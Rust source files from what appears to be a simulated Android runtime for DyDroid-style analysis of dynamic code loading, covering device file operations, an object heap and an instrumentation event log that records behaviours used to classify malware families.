            external_writers: &check,
        };
        let ok = self
            .fs
            .delete(path, &Owner::app(pkg.to_string()), &policy)
            .is_ok();
        self.log.push(Event::File {
            op: crate::events::FileOp::Delete,
            path: path.to_string(),
            suppressed: false,
            package: pkg.to_string(),
        });
        ok
    }

    /// Renames a file on behalf of `pkg`, honouring mutual exclusion.
    /// Returns whether the app observes success.
    pub fn app_rename(&mut self, pkg: &str, from: &str, to: &str) -> bool {
        if self.hooks.should_block_file_op(from) {
            self.hooks.note_blocked_op();
            self.log.push(Event::File {
                op: crate::events::FileOp::Rename,
                path: from.to_string(),
                suppressed: true,
                package: pkg.to_string(),
            });
            return true;
        }
        let installed = &self.installed;
        let api = self.api_level;
        let check = move |p: &str| {
            installed
                .get(p)
                .map(|a| a.manifest.has_permission(WRITE_EXTERNAL_STORAGE))
                .unwrap_or(false)
        };
        let policy = FsPolicy {
            api_level: api,
            external_writers: &check,
        };
        let ok = self
            .fs
            .rename(from, to, &Owner::app(pkg.to_string()), &policy)
            .is_ok();
        self.log.push(Event::File {
            op: crate::events::FileOp::Rename,
            path: from.to_string(),
            suppressed: false,
            package: pkg.to_string(),
        });
        if ok {
            self.hooks.flow.add_edge(
                crate::flow::FlowNode::File(from.to_string()),
                crate::flow::FlowNode::File(to.to_string()),
            );
        }
        ok
    }

    /// Creates a process for `pkg` and runs its launch sequence: the
    /// custom `Application` class (if declared) and then `onCreate` of the
    /// main activity. Crashes are recorded in the log; the returned
    /// process reflects liveness in [`Process::alive`].
    ///
    /// # Errors
    ///
    /// Returns [`AvmError::NotInstalled`] for unknown packages.
    pub fn launch(&mut self, pkg: &str) -> Result<Process, AvmError> {
        let app = self
            .installed
            .get(pkg)
            .ok_or_else(|| AvmError::NotInstalled(pkg.to_string()))?;
        let mut process = Process::new(pkg.to_string(), app.classes.clone(), &app.manifest);
        // Run the Application container first (packers hinge on this).
        if let Some(app_class) = app.manifest.application_class.clone() {
            process.run_entry(self, &app_class, "onCreate");
        }
        if !process.alive {
            return Ok(process);
        }
        if let Some(main) = self
            .installed
            .get(pkg)
            .and_then(|a| a.manifest.main_activity())
            .map(|c| c.class.clone())
        {
            process.run_entry(self, &main, "onCreate");
        }
        Ok(process)
    }

    /// Loads an asset entry from an installed app's APK.
    pub fn asset(&self, pkg: &str, name: &str) -> Option<&[u8]> {
        self.installed
            .get(pkg)
            .and_then(|a| a.apk.entry(&format!("assets/{name}")))
    }

    /// Resolves a native library search, mirroring `loadLibrary`:
    /// the app's extracted directory first, then `/system/lib`.
    pub fn resolve_library(&self, pkg: &str, libname: &str) -> Option<String> {
        let fname = paths::map_library_name(libname);
        let app_path = format!("{}/{}", paths::app_lib_dir(pkg), fname);
        if self.fs.exists(&app_path) {
            return Some(app_path);
        }
        let sys_path = format!("{}/{}", paths::SYSTEM_LIB, fname);
        if self.fs.exists(&sys_path) {
            return Some(sys_path);
        }
        None
    }

    /// Installs a system native library (trusted, skipped by the logger).
    pub fn install_system_library(&mut self, lib: &NativeLibrary) {
        let path = format!("{}/{}", paths::SYSTEM_LIB, lib.soname);
        self.fs.write_system(&path, lib.to_bytes(), Owner::System);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::native::{Arch, NativeFunction, NativeInsn};
    use dydroid_dex::{Component, Manifest};

    fn minimal_apk(pkg: &str) -> Vec<u8> {
        let mut manifest = Manifest::new(pkg);
        manifest
            .components
            .push(Component::main_activity(format!("{pkg}.Main")));
        let mut dex = dydroid_dex::builder::DexBuilder::new();
        {
            let c = dex.class(format!("{pkg}.Main"), "android.app.Activity");
            let m = c.method("onCreate", "()V", dydroid_dex::AccessFlags::PUBLIC);
            m.ret_void();
        }
        Apk::build(manifest, dex.build()).to_bytes()
    }

    #[test]
    fn install_and_query() {
        let mut d = Device::new(DeviceConfig::default());
        let pkg = d.install(&minimal_apk("com.a")).unwrap();
        assert_eq!(pkg, "com.a");
        assert!(d.is_installed("com.a"));
        assert_eq!(d.installed_packages(), vec!["com.a"]);
        assert!(matches!(
            d.install(&minimal_apk("com.a")),
            Err(AvmError::AlreadyInstalled(_))
        ));
        assert!(d.uninstall("com.a"));
        assert!(!d.uninstall("com.a"));
    }

    #[test]
    fn install_rejects_garbage() {
        let mut d = Device::new(DeviceConfig::default());
        assert!(matches!(d.install(b"junk"), Err(AvmError::Apk(_))));
    }

    #[test]
    fn native_libs_extracted_on_install() {
        let mut manifest = Manifest::new("com.a");
        manifest
            .components
            .push(Component::main_activity("com.a.Main"));
        let lib = NativeLibrary::new("libx.so", Arch::Arm).with_function(NativeFunction::exported(
            "JNI_OnLoad",
            vec![NativeInsn::Ret],
        ));
        let mut apk = Apk::build(manifest, DexFile::new());
        apk.put("lib/armeabi/libx.so", lib.to_bytes());
        let mut d = Device::new(DeviceConfig::default());
        d.install(&apk.to_bytes()).unwrap();
        assert!(d.fs.exists("/data/app-lib/com.a/libx.so"));
        assert_eq!(
            d.resolve_library("com.a", "x"),
            Some("/data/app-lib/com.a/libx.so".to_string())
        );
    }

    #[test]
    fn library_resolution_falls_back_to_system() {
        let mut d = Device::new(DeviceConfig::default());
        let lib = NativeLibrary::new("libssl.so", Arch::Arm);
        d.install_system_library(&lib);
        assert_eq!(
            d.resolve_library("com.none", "ssl"),
            Some("/system/lib/libssl.so".to_string())
        );
        assert_eq!(d.resolve_library("com.none", "missing"), None);
    }

    #[test]
    fn network_availability_matrix() {
        let mut d = Device::new(DeviceConfig::default());
        assert!(d.network_available());
        d.state.airplane_mode = true;
        d.state.wifi_on = true;
        assert!(d.network_available(), "airplane + wifi on = available");
        d.state.wifi_on = false;
        assert!(!d.network_available(), "airplane + wifi off = offline");
        d.state.airplane_mode = false;
        assert!(d.network_available());
    }

    #[test]
    fn delete_suppression_via_hook() {
        let mut d = Device::new(DeviceConfig::default());
        d.install(&minimal_apk("com.a")).unwrap();
        d.app_write("com.a", "/data/data/com.a/cache/ad1.dex", vec![1])
            .unwrap();
        d.hooks.intercept(crate::hooks::InterceptedBinary {
            path: "/data/data/com.a/cache/ad1.dex".to_string(),
            data: vec![1],
            kind: crate::events::DclKind::DexClassLoader,
            call_site_class: "com.ads.X".to_string(),
            package: "com.a".to_string(),
        });
        assert!(d.app_delete("com.a", "/data/data/com.a/cache/ad1.dex"));
        // Still there: the hook silently blocked the delete.
        assert!(d.fs.exists("/data/data/com.a/cache/ad1.dex"));
    }

    #[test]
    fn delete_without_hook_removes() {
        let mut d = Device::new(DeviceConfig::default());
        d.install(&minimal_apk("com.a")).unwrap();
        d.app_write("com.a", "/data/data/com.a/cache/x", vec![1])
            .unwrap();
        assert!(d.app_delete("com.a", "/data/data/com.a/cache/x"));
        assert!(!d.fs.exists("/data/data/com.a/cache/x"));
    }

    #[test]
    fn rename_records_flow_edge() {
        let mut d = Device::new(DeviceConfig::default());
        d.install(&minimal_apk("com.a")).unwrap();
        d.app_write("com.a", "/data/data/com.a/cache/t", vec![1])
            .unwrap();
        assert!(d.app_rename(
            "com.a",
            "/data/data/com.a/cache/t",
            "/data/data/com.a/files/t"
        ));
        assert!(d.fs.exists("/data/data/com.a/files/t"));
    }

    #[test]
    fn launch_unknown_package() {
        let mut d = Device::new(DeviceConfig::default());
        assert!(matches!(d.launch("nope"), Err(AvmError::NotInstalled(_))));
    }

    #[test]
    fn launch_runs_main_activity() {
        let mut d = Device::new(DeviceConfig::default());
        d.install(&minimal_apk("com.a")).unwrap();
        let p = d.launch("com.a").unwrap();
        assert!(p.alive);
    }
}
