//! Runtime values, heap objects and intrinsic framework-object state.

use std::collections::HashMap;

/// A heap object identifier — doubles as the "hash code" that the download
//  tracker uses to identify objects, as in the paper.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjId(pub u32);

/// A runtime value held in a register, field or argument.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// The null reference.
    Null,
    /// A (folded) integer.
    Int(i64),
    /// A string. Strings are immutable values rather than heap objects,
    /// which is all the analyses need.
    Str(String),
    /// A reference to a heap object.
    Obj(ObjId),
}

impl Value {
    /// Interprets the value as an integer (null is 0, as Dalvik registers
    /// are untyped).
    pub fn as_int(&self) -> Option<i64> {
        match self {
            Value::Int(v) => Some(*v),
            Value::Null => Some(0),
            _ => None,
        }
    }

    /// The string contents, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The object id, if this is an object reference.
    pub fn as_obj(&self) -> Option<ObjId> {
        match self {
            Value::Obj(id) => Some(*id),
            _ => None,
        }
    }

    /// Truthiness for conditional branches: zero/null/empty are false.
    pub fn truthy(&self) -> bool {
        match self {
            Value::Null => false,
            Value::Int(v) => *v != 0,
            Value::Str(s) => !s.is_empty(),
            Value::Obj(_) => true,
        }
    }
}

/// Where an input stream's bytes come from.
#[derive(Debug, Clone, PartialEq)]
pub enum StreamSource {
    /// A remote URL (already-fetched body held inline).
    Url(String),
    /// A device file.
    File(String),
    /// An APK asset of the running app (`apk:assets/...`).
    Asset(String),
}

/// Where an output stream's bytes go.
#[derive(Debug, Clone, PartialEq)]
pub enum StreamSink {
    /// A device file (append).
    File(String),
    /// The network (POST body to a domain).
    Net(String),
}

/// Framework-specific state attached to intrinsic objects.
#[derive(Debug, Clone, PartialEq, Default)]
pub enum IntrinsicState {
    /// A plain app object.
    #[default]
    None,
    /// `java.net.URL`.
    Url {
        /// The URL string.
        url: String,
    },
    /// `java.net.URLConnection` (and subclasses).
    UrlConnection {
        /// The connected URL.
        url: String,
    },
    /// An input stream with a known source and buffered contents.
    InputStream {
        /// Source of the bytes.
        source: StreamSource,
        /// The bytes available to read.
        data: Vec<u8>,
    },
    /// An output stream bound to a sink.
    OutputStream {
        /// Destination of written bytes.
        sink: StreamSink,
    },
    /// A byte buffer (`java.io.Buffer` stand-in).
    Buffer {
        /// Current contents.
        data: Vec<u8>,
    },
    /// `java.io.File`.
    File {
        /// Absolute path.
        path: String,
    },
    /// A class loader; indexes into the process's loaded class spaces.
    ClassLoader {
        /// Class-space index within the owning [`crate::Process`].
        space: usize,
    },
    /// `java.lang.Class`.
    Class {
        /// Dotted class name.
        name: String,
    },
    /// `java.lang.reflect.Method`.
    ReflectMethod {
        /// Declaring class.
        class: String,
        /// Method name.
        method: String,
    },
}

/// A heap object: dynamic class name, fields, optional intrinsic state.
#[derive(Debug, Clone, PartialEq)]
pub struct Object {
    /// Dotted runtime class name.
    pub class: String,
    /// Instance fields by name.
    pub fields: HashMap<String, Value>,
    /// Framework state for intrinsic objects.
    pub intrinsic: IntrinsicState,
}

/// The per-process heap.
#[derive(Debug, Clone, Default)]
pub struct Heap {
    objects: Vec<Object>,
}

impl Heap {
    /// Creates an empty heap.
    pub fn new() -> Self {
        Heap::default()
    }

    /// Allocates a plain object of `class`.
    pub fn alloc(&mut self, class: impl Into<String>) -> ObjId {
        self.alloc_intrinsic(class, IntrinsicState::None)
    }

    /// Allocates an object with intrinsic state.
    pub fn alloc_intrinsic(
        &mut self,
        class: impl Into<String>,
        intrinsic: IntrinsicState,
    ) -> ObjId {
        let id = ObjId(self.objects.len() as u32);
        self.objects.push(Object {
            class: class.into(),
            fields: HashMap::new(),
            intrinsic,
        });
        id
    }

    /// Immutable access to an object.
    pub fn get(&self, id: ObjId) -> Option<&Object> {
        self.objects.get(id.0 as usize)
    }

    /// Mutable access to an object.
    pub fn get_mut(&mut self, id: ObjId) -> Option<&mut Object> {
        self.objects.get_mut(id.0 as usize)
    }

    /// Number of live objects (the heap never frees; processes are
    /// short-lived).
    pub fn len(&self) -> usize {
        self.objects.len()
    }

    /// Whether the heap is empty.
    pub fn is_empty(&self) -> bool {
        self.objects.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn value_accessors() {
        assert_eq!(Value::Int(5).as_int(), Some(5));
        assert_eq!(Value::Null.as_int(), Some(0));
        assert_eq!(Value::Str("x".into()).as_int(), None);
        assert_eq!(Value::Str("x".into()).as_str(), Some("x"));
        assert_eq!(Value::Obj(ObjId(3)).as_obj(), Some(ObjId(3)));
    }

    #[test]
    fn truthiness() {
        assert!(!Value::Null.truthy());
        assert!(!Value::Int(0).truthy());
        assert!(Value::Int(1).truthy());
        assert!(!Value::Str(String::new()).truthy());
        assert!(Value::Str("a".into()).truthy());
        assert!(Value::Obj(ObjId(0)).truthy());
    }

    #[test]
    fn alloc_and_fields() {
        let mut heap = Heap::new();
        let id = heap.alloc("com.x.Y");
        assert_eq!(heap.len(), 1);
        heap.get_mut(id)
            .unwrap()
            .fields
            .insert("count".to_string(), Value::Int(3));
        assert_eq!(heap.get(id).unwrap().fields["count"], Value::Int(3));
        assert_eq!(heap.get(id).unwrap().class, "com.x.Y");
    }

    #[test]
    fn intrinsic_objects() {
        let mut heap = Heap::new();
        let id = heap.alloc_intrinsic(
            "java.net.URL",
            IntrinsicState::Url {
                url: "http://a.com/x".to_string(),
            },
        );
        match &heap.get(id).unwrap().intrinsic {
            IntrinsicState::Url { url } => assert_eq!(url, "http://a.com/x"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn ids_are_sequential() {
        let mut heap = Heap::new();
        let a = heap.alloc("A");
        let b = heap.alloc("B");
        assert_eq!(a, ObjId(0));
        assert_eq!(b, ObjId(1));
        assert!(heap.get(ObjId(2)).is_none());
    }
}
