//! Runtime values, heap objects and intrinsic framework-object state.
//!
//! The heap is an arena: objects live in one contiguous vector, ids are
//! indices, and nothing is freed individually — processes are
//! short-lived, and whole-app teardown is an O(1) [`Heap::reset`] that
//! keeps the arena's capacity (and pools the per-object field tables)
//! for the next episode. Class and field names are interned
//! [`Sym`]s; resolve them through the owning process's interner.

use crate::sym::Sym;

/// A heap object identifier — doubles as the "hash code" that the download
//  tracker uses to identify objects, as in the paper.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjId(pub u32);

/// A runtime value held in a register, field or argument.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// The null reference.
    Null,
    /// A (folded) integer.
    Int(i64),
    /// A string. Strings are immutable values rather than heap objects,
    /// which is all the analyses need.
    Str(String),
    /// A reference to a heap object.
    Obj(ObjId),
}

impl Value {
    /// Interprets the value as an integer (null is 0, as Dalvik registers
    /// are untyped).
    pub fn as_int(&self) -> Option<i64> {
        match self {
            Value::Int(v) => Some(*v),
            Value::Null => Some(0),
            _ => None,
        }
    }

    /// The string contents, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The object id, if this is an object reference.
    pub fn as_obj(&self) -> Option<ObjId> {
        match self {
            Value::Obj(id) => Some(*id),
            _ => None,
        }
    }

    /// Truthiness for conditional branches: zero/null/empty are false.
    pub fn truthy(&self) -> bool {
        match self {
            Value::Null => false,
            Value::Int(v) => *v != 0,
            Value::Str(s) => !s.is_empty(),
            Value::Obj(_) => true,
        }
    }
}

/// Where an input stream's bytes come from.
#[derive(Debug, Clone, PartialEq)]
pub enum StreamSource {
    /// A remote URL (already-fetched body held inline).
    Url(String),
    /// A device file.
    File(String),
    /// An APK asset of the running app (`apk:assets/...`).
    Asset(String),
}

/// Where an output stream's bytes go.
#[derive(Debug, Clone, PartialEq)]
pub enum StreamSink {
    /// A device file (append).
    File(String),
    /// The network (POST body to a domain).
    Net(String),
}

/// Framework-specific state attached to intrinsic objects.
#[derive(Debug, Clone, PartialEq, Default)]
pub enum IntrinsicState {
    /// A plain app object.
    #[default]
    None,
    /// `java.net.URL`.
    Url {
        /// The URL string.
        url: String,
    },
    /// `java.net.URLConnection` (and subclasses).
    UrlConnection {
        /// The connected URL.
        url: String,
    },
    /// An input stream with a known source and buffered contents.
    InputStream {
        /// Source of the bytes.
        source: StreamSource,
        /// The bytes available to read.
        data: Vec<u8>,
    },
    /// An output stream bound to a sink.
    OutputStream {
        /// Destination of written bytes.
        sink: StreamSink,
    },
    /// A byte buffer (`java.io.Buffer` stand-in).
    Buffer {
        /// Current contents.
        data: Vec<u8>,
    },
    /// `java.io.File`.
    File {
        /// Absolute path.
        path: String,
    },
    /// A class loader; indexes into the process's loaded class spaces.
    ClassLoader {
        /// Class-space index within the owning [`crate::Process`].
        space: usize,
    },
    /// `java.lang.Class`.
    Class {
        /// Dotted class name.
        name: String,
    },
    /// `java.lang.reflect.Method`.
    ReflectMethod {
        /// Declaring class.
        class: String,
        /// Method name.
        method: String,
    },
}

/// A heap object: interned runtime class, fields, optional intrinsic
/// state. Fields are a flat `(name, value)` table — objects have a
/// handful of fields, and the interpreter's per-site inline caches
/// remember the slot index, so a linear scan only happens on cache
/// misses.
#[derive(Debug, Clone, PartialEq)]
pub struct Object {
    /// Interned dotted runtime class name.
    pub class: Sym,
    /// Instance fields as `(interned name, value)` slots, in insertion
    /// order. A name appears at most once.
    pub fields: Vec<(Sym, Value)>,
    /// Framework state for intrinsic objects.
    pub intrinsic: IntrinsicState,
}

impl Object {
    /// Reads a field by interned name.
    pub fn field(&self, name: Sym) -> Option<&Value> {
        self.fields.iter().find(|(s, _)| *s == name).map(|(_, v)| v)
    }

    /// Writes a field by interned name, creating the slot on first write.
    pub fn put_field(&mut self, name: Sym, value: Value) {
        match self.fields.iter_mut().find(|(s, _)| *s == name) {
            Some((_, v)) => *v = value,
            None => self.fields.push((name, value)),
        }
    }
}

/// The per-process heap: an arena of objects.
#[derive(Debug, Clone, Default)]
pub struct Heap {
    objects: Vec<Object>,
    /// Field tables recovered by [`Heap::reset`], reused by later
    /// allocations so steady-state episodes allocate nothing.
    spare_fields: Vec<Vec<(Sym, Value)>>,
}

impl Heap {
    /// Creates an empty heap.
    pub fn new() -> Self {
        Heap::default()
    }

    /// Allocates a plain object of `class`.
    pub fn alloc(&mut self, class: Sym) -> ObjId {
        self.alloc_intrinsic(class, IntrinsicState::None)
    }

    /// Allocates an object with intrinsic state.
    pub fn alloc_intrinsic(&mut self, class: Sym, intrinsic: IntrinsicState) -> ObjId {
        let id = ObjId(self.objects.len() as u32);
        let fields = self.spare_fields.pop().unwrap_or_default();
        self.objects.push(Object {
            class,
            fields,
            intrinsic,
        });
        id
    }

    /// Immutable access to an object.
    pub fn get(&self, id: ObjId) -> Option<&Object> {
        self.objects.get(id.0 as usize)
    }

    /// Mutable access to an object.
    pub fn get_mut(&mut self, id: ObjId) -> Option<&mut Object> {
        self.objects.get_mut(id.0 as usize)
    }

    /// Number of live objects (the heap never frees individually;
    /// processes are short-lived).
    pub fn len(&self) -> usize {
        self.objects.len()
    }

    /// Whether the heap is empty.
    pub fn is_empty(&self) -> bool {
        self.objects.is_empty()
    }

    /// Whole-heap reset: drops every object but keeps the arena's
    /// capacity and recycles the per-object field tables, so the next
    /// episode's allocations are O(1) bump pushes with no heap traffic.
    /// All previously issued [`ObjId`]s become dangling — callers reset
    /// only between episodes, never mid-run.
    pub fn reset(&mut self) {
        for mut obj in self.objects.drain(..) {
            obj.fields.clear();
            self.spare_fields.push(std::mem::take(&mut obj.fields));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sym::Interner;

    #[test]
    fn value_accessors() {
        assert_eq!(Value::Int(5).as_int(), Some(5));
        assert_eq!(Value::Null.as_int(), Some(0));
        assert_eq!(Value::Str("x".into()).as_int(), None);
        assert_eq!(Value::Str("x".into()).as_str(), Some("x"));
        assert_eq!(Value::Obj(ObjId(3)).as_obj(), Some(ObjId(3)));
    }

    #[test]
    fn truthiness() {
        assert!(!Value::Null.truthy());
        assert!(!Value::Int(0).truthy());
        assert!(Value::Int(1).truthy());
        assert!(!Value::Str(String::new()).truthy());
        assert!(Value::Str("a".into()).truthy());
        assert!(Value::Obj(ObjId(0)).truthy());
    }

    #[test]
    fn alloc_and_fields() {
        let mut names = Interner::new();
        let mut heap = Heap::new();
        let cls = names.intern("com.x.Y");
        let count = names.intern("count");
        let id = heap.alloc(cls);
        assert_eq!(heap.len(), 1);
        heap.get_mut(id).unwrap().put_field(count, Value::Int(3));
        assert_eq!(heap.get(id).unwrap().field(count), Some(&Value::Int(3)));
        assert_eq!(heap.get(id).unwrap().field(names.intern("n")), None);
        assert_eq!(names.resolve(heap.get(id).unwrap().class), "com.x.Y");
    }

    #[test]
    fn put_field_overwrites_in_place() {
        let mut names = Interner::new();
        let mut heap = Heap::new();
        let id = heap.alloc(names.intern("A"));
        let f = names.intern("f");
        let g = names.intern("g");
        let obj = heap.get_mut(id).unwrap();
        obj.put_field(f, Value::Int(1));
        obj.put_field(g, Value::Int(2));
        obj.put_field(f, Value::Int(3));
        assert_eq!(obj.fields.len(), 2);
        assert_eq!(obj.field(f), Some(&Value::Int(3)));
        assert_eq!(obj.field(g), Some(&Value::Int(2)));
    }

    #[test]
    fn intrinsic_objects() {
        let mut names = Interner::new();
        let mut heap = Heap::new();
        let id = heap.alloc_intrinsic(
            names.intern("java.net.URL"),
            IntrinsicState::Url {
                url: "http://a.com/x".to_string(),
            },
        );
        match &heap.get(id).unwrap().intrinsic {
            IntrinsicState::Url { url } => assert_eq!(url, "http://a.com/x"),
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn ids_are_sequential() {
        let mut names = Interner::new();
        let mut heap = Heap::new();
        let a = heap.alloc(names.intern("A"));
        let b = heap.alloc(names.intern("B"));
        assert_eq!(a, ObjId(0));
        assert_eq!(b, ObjId(1));
        assert!(heap.get(ObjId(2)).is_none());
    }

    #[test]
    fn reset_recycles_field_tables() {
        let mut names = Interner::new();
        let mut heap = Heap::new();
        let cls = names.intern("A");
        let f = names.intern("f");
        let id = heap.alloc(cls);
        heap.get_mut(id).unwrap().put_field(f, Value::Int(1));
        heap.alloc(cls);
        heap.reset();
        assert!(heap.is_empty());
        assert!(heap.get(ObjId(0)).is_none());
        // Fresh allocations start clean and ids restart from zero.
        let id = heap.alloc(cls);
        assert_eq!(id, ObjId(0));
        assert_eq!(heap.get(id).unwrap().field(f), None);
    }
}
