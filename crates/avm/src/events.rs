//! Instrumentation events emitted by the modified framework.
//!
//! Every hook in the simulated runtime appends to the [`EventLog`]; the
//! DyDroid pipeline reads the log after exercising an app to reconstruct
//! DCL provenance, entity, file-op suppression and privacy API usage.

use serde::{Deserialize, Serialize};

/// What kind of code a DCL event loaded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum DclKind {
    /// DEX bytecode via `DexClassLoader`.
    DexClassLoader,
    /// DEX bytecode via `PathClassLoader`.
    PathClassLoader,
    /// Native code via `System.load()` (absolute path).
    NativeLoad,
    /// Native code via `System.loadLibrary()` (library name).
    NativeLoadLibrary,
}

impl DclKind {
    /// Whether this is a bytecode (DEX) load.
    pub fn is_dex(self) -> bool {
        matches!(self, DclKind::DexClassLoader | DclKind::PathClassLoader)
    }

    /// Whether this is a native-code load.
    pub fn is_native(self) -> bool {
        !self.is_dex()
    }
}

/// A dynamic code loading event, as recorded by the DCL logger.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DclEvent {
    /// Loader/API used.
    pub kind: DclKind,
    /// Absolute path of the loaded file.
    pub path: String,
    /// Output directory of the optimized DEX, for bytecode loads.
    pub odex_dir: Option<String>,
    /// Call-site class: the class in which the class loader was created
    /// (top app frame of the Java stack trace, Figure 2).
    pub call_site_class: String,
    /// Full app-frame stack trace, innermost first (`class->method`).
    pub stack: Vec<String>,
    /// Package of the app whose process performed the load.
    pub package: String,
    /// Whether the load succeeded (the file existed and parsed).
    pub success: bool,
}

/// File operations observed by the `java.io.File` hooks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FileOp {
    /// File creation or overwrite.
    Write,
    /// File deletion.
    Delete,
    /// File rename (path is the source).
    Rename,
}

/// Observable app behaviours used by malware-family verification.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum BehaviorEvent {
    /// A notification was posted (adware push ads).
    Notification {
        /// Notification text.
        text: String,
    },
    /// A home-screen shortcut was installed (adware).
    ShortcutInstalled {
        /// Shortcut label.
        label: String,
    },
    /// The browser homepage was redirected (adware).
    HomepageChanged {
        /// New homepage URL.
        url: String,
    },
    /// An SMS was sent.
    SmsSent {
        /// Destination number.
        number: String,
        /// Message body.
        body: String,
    },
    /// `ptrace` was attached to another process (Chathook family,
    /// and the packers' anti-debug loop).
    PtraceAttach {
        /// Target package, or `self` for anti-debug.
        target: String,
    },
    /// The process attempted to obtain root.
    RootAttempt,
    /// A Java method was hooked from native code.
    MethodHook {
        /// Description of the hooked method.
        target: String,
    },
    /// A service component was started.
    ServiceStarted {
        /// Service class name.
        class: String,
    },
    /// A remote command was fetched and executed (botnet behaviour).
    RemoteCommand {
        /// The command string.
        command: String,
    },
}

/// One entry in the instrumentation log.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Event {
    /// A DCL event.
    Dcl(DclEvent),
    /// A file operation, possibly suppressed by the interception hook.
    File {
        /// Operation kind.
        op: FileOp,
        /// Affected path.
        path: String,
        /// Whether the mutual-exclusion hook silently blocked it.
        suppressed: bool,
        /// Acting package.
        package: String,
    },
    /// A framework API call relevant to privacy tracking.
    Api {
        /// API class (dotted).
        class: String,
        /// API method name.
        method: String,
        /// App class that made the call.
        caller_class: String,
        /// Acting package.
        package: String,
    },
    /// Outbound network traffic.
    NetSend {
        /// Destination domain.
        domain: String,
        /// Bytes sent.
        bytes: usize,
        /// Acting package.
        package: String,
    },
    /// Inbound network fetch (URL read).
    NetFetch {
        /// Source URL.
        url: String,
        /// Bytes received; `None` when the fetch failed.
        bytes: Option<usize>,
        /// Acting package.
        package: String,
    },
    /// An observable behaviour.
    Behavior {
        /// The behaviour.
        behavior: BehaviorEvent,
        /// Acting package.
        package: String,
    },
    /// The app crashed with an uncaught exception or budget exhaustion.
    Crash {
        /// Human-readable reason.
        reason: String,
        /// Acting package.
        package: String,
    },
}

/// An instrumentation log, optionally bounded as a ring buffer.
///
/// With a capacity set, the log keeps only the most recent `capacity`
/// events: each push past the bound evicts the oldest surviving event and
/// bumps [`dropped_events`](EventLog::dropped_events), so truncation is
/// always observable. Eviction is amortized O(1) (a start cursor advances,
/// and the backing vector is compacted once the dead prefix reaches the
/// capacity). The default capacity of `0` means unbounded.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct EventLog {
    events: Vec<Event>,
    start: usize,
    capacity: usize,
    dropped: u64,
}

impl EventLog {
    /// Creates an empty, unbounded log.
    pub fn new() -> Self {
        EventLog::default()
    }

    /// Bounds the log to the most recent `capacity` events (`0` = unbounded).
    /// Shrinking below the current length evicts the oldest events.
    pub fn set_capacity(&mut self, capacity: usize) {
        self.capacity = capacity;
        self.evict_to_capacity();
    }

    /// The configured ring capacity (`0` = unbounded).
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// How many events have been evicted by the ring bound.
    pub fn dropped_events(&self) -> u64 {
        self.dropped
    }

    /// Appends an event, evicting the oldest if the log is at capacity.
    pub fn push(&mut self, event: Event) {
        self.events.push(event);
        self.evict_to_capacity();
    }

    fn evict_to_capacity(&mut self) {
        if self.capacity == 0 {
            return;
        }
        while self.events.len() - self.start > self.capacity {
            self.start += 1;
            self.dropped += 1;
        }
        // Compact once the dead prefix is as large as the live window so
        // each element is moved at most once per `capacity` evictions.
        if self.start >= self.capacity.max(1) {
            self.events.drain(..self.start);
            self.start = 0;
        }
    }

    /// All surviving events, in order.
    pub fn events(&self) -> &[Event] {
        &self.events[self.start..]
    }

    /// All DCL events.
    pub fn dcl_events(&self) -> impl Iterator<Item = &DclEvent> {
        self.events().iter().filter_map(|e| match e {
            Event::Dcl(d) => Some(d),
            _ => None,
        })
    }

    /// All behaviour events for a package.
    pub fn behaviors<'a>(&'a self, pkg: &'a str) -> impl Iterator<Item = &'a BehaviorEvent> {
        self.events().iter().filter_map(move |e| match e {
            Event::Behavior { behavior, package } if package == pkg => Some(behavior),
            _ => None,
        })
    }

    /// Whether any crash was recorded for `pkg`.
    pub fn crashed(&self, pkg: &str) -> bool {
        self.events()
            .iter()
            .any(|e| matches!(e, Event::Crash { package, .. } if package == pkg))
    }

    /// Number of surviving events.
    pub fn len(&self) -> usize {
        self.events.len() - self.start
    }

    /// Whether the log is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Clears the log and its dropped-event counter (between per-app runs).
    /// The capacity is preserved.
    pub fn clear(&mut self) {
        self.events.clear();
        self.start = 0;
        self.dropped = 0;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dcl(path: &str) -> DclEvent {
        DclEvent {
            kind: DclKind::DexClassLoader,
            path: path.to_string(),
            odex_dir: Some("/data/data/a/odex".to_string()),
            call_site_class: "com.ads.Loader".to_string(),
            stack: vec!["com.ads.Loader->init".to_string()],
            package: "a".to_string(),
            success: true,
        }
    }

    #[test]
    fn kind_classification() {
        assert!(DclKind::DexClassLoader.is_dex());
        assert!(DclKind::PathClassLoader.is_dex());
        assert!(DclKind::NativeLoad.is_native());
        assert!(DclKind::NativeLoadLibrary.is_native());
    }

    #[test]
    fn log_filters() {
        let mut log = EventLog::new();
        log.push(Event::Dcl(dcl("/data/data/a/cache/ad1.dex")));
        log.push(Event::Crash {
            reason: "boom".to_string(),
            package: "a".to_string(),
        });
        log.push(Event::Behavior {
            behavior: BehaviorEvent::RootAttempt,
            package: "b".to_string(),
        });
        assert_eq!(log.dcl_events().count(), 1);
        assert!(log.crashed("a"));
        assert!(!log.crashed("b"));
        assert_eq!(log.behaviors("b").count(), 1);
        assert_eq!(log.behaviors("a").count(), 0);
        assert_eq!(log.len(), 3);
        log.clear();
        assert!(log.is_empty());
    }

    #[test]
